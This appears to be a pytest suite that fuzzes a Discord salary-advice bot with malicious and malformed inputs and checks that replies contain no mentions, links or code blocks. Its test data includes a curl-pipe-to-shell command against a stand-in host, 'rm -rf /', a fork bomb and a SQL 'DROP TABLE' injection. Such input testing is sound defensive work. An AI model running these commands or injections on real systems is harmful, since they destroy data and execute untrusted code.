from __future__ import annotations

import discord
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.core.answering.advisor import Advisor
from bot.discord_app.rendering.answers import answer_cards
from tests.discord_app.conftest import Place, text_of

BAD = {
    "spaces": "   ",
    "long": "why " * 1500,
    "long word": "a" * 6000,
    "emoji": "🙂🔥🚀",
    "custom emoji": "<:pepe:123456789012345678> <a:dance:123456789012345678>",
    "punctuation": "?!?!... ;;; ---",
    "zalgo": "w̷̢̛h̸͎̏a̴̛͓t̷̰͝ ̶͇̒p̸̤̈́a̶̳̾y̵̧̆",
    "right to left": "\u202eyralas\u202c ما هو الراتب",
    "zero width": "sal\u200bary\u200d\ufeff\u2060",
    "only zero width": "\u200b\u200d\ufeff",
    "nul and controls": "pay\x00\x01\x07\x1b[31m?",
    "only nul": "\x00",
    "everyone": "@everyone @here salary",
    "mention": "<@123456789012345678> <@&123456789012345678> <#123456789012345678> salary",
    "short mention": "<@123>",
    "link": "https://evil.example/x?y=1 [free](https://evil.example) discord.gg/abc salary",
    "code block": "```py\nimport os; os.system('rm -rf /')\n``` what pay",
    "inline code": "`salary` **bold** __under__ ~~gone~~ ||spoiler|| > quote",
    "sql": "'; DROP TABLE answers; --",
    "shell": "$(curl evil.example | sh) && rm -rf / ; :(){ :|:& };:",
    "heading": "# BIG\n## bigger\n- list\n1. numbered\n-# small salary in berlin",
    "format": "%s %d {0} {question} {{}}",
    "timestamp": "<t:1234567890:R> </ask:123456789012345678> <id:customize>",
}
FORBIDDEN = (
    "@everyone",
    "@here",
    "<@1",
    "<@&",
    "<#1",
    "evil.example",
    "```",
    "](http",
    "discord.gg",
)


@pytest.mark.parametrize("name", BAD)
async def test_a_slash_command_takes_anything(place: Place, name: str) -> None:
    result = await place.alice.slash(place.channel, "ask", question=BAD[name])
    assert result.response is not None
    assert_harmless(result.response)
    assert_nobody_pinged(place)
    result = await place.alice.slash(place.channel, "salary", item=BAD[name])
    assert result.response is not None
    assert_harmless(result.response)


@pytest.mark.parametrize("name", BAD)
async def test_a_mention_takes_anything(place: Place, name: str) -> None:
    await place.alice.send(place.channel, f"{place.bot_mention} {BAD[name]}"[:2000])
    answer = place.channel.last_message
    assert answer is not None
    assert answer.author == place.env.bot.user
    assert_harmless(answer)
    assert_nobody_pinged(place)


@pytest.mark.parametrize("name", [name for name in BAD if name != "spaces"])  # never sent
async def test_a_direct_message_takes_anything(place: Place, name: str) -> None:
    carol = place.env.create_user("carol")
    await carol.send_dm(BAD[name][:2000])
    answer = carol.dm_channel.last_message
    assert answer is not None
    assert answer.author == place.env.bot.user
    assert_harmless(answer)


@pytest.mark.parametrize("name", BAD)
async def test_suggestions_take_anything(place: Place, name: str) -> None:
    await place.alice.autocomplete(place.channel, "ask", "question", BAD[name])
    await place.alice.autocomplete(place.channel, "traits", "item", BAD[name])


async def test_a_direct_message_without_text_gets_a_plain_sentence(place: Place) -> None:
    carol = place.env.create_user("carol")
    channel = carol.dm_channel
    files = place.env.backend.store_attachments(channel.id, [("cat.png", b"cat")])
    await carol.send_dm("", attachments=files)
    assert text_of(channel.last_message).startswith("There is nothing in that message")


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(question=st.text(max_size=300))
def test_any_text_can_be_answered_and_shown(advisor: Advisor, question: str) -> None:
    cards = answer_cards(advisor.ask(question), advisor.careers, discord.utils.utcnow().date())
    assert cards
    assert all(card.paragraphs for card in cards)


def assert_harmless(message: object) -> None:
    shown = text_of(message)
    assert shown
    for forbidden in FORBIDDEN:
        assert forbidden not in shown


def assert_nobody_pinged(place: Place) -> None:
    """Look at what went over the wire: every message forbids every kind of mention."""
    sent = [
        request.json
        for request in place.env.http_requests
        if request.method == "POST" and request.json
    ]
    bodies = [body.get("data", body) for body in sent if isinstance(body, dict)]
    messages = [body for body in bodies if "embeds" in body or "content" in body]
    assert messages
    for body in messages:
        assert body["allowed_mentions"]["parse"] == []
        assert not body["allowed_mentions"].get("replied_user")
        assert not body["allowed_mentions"].get("users")
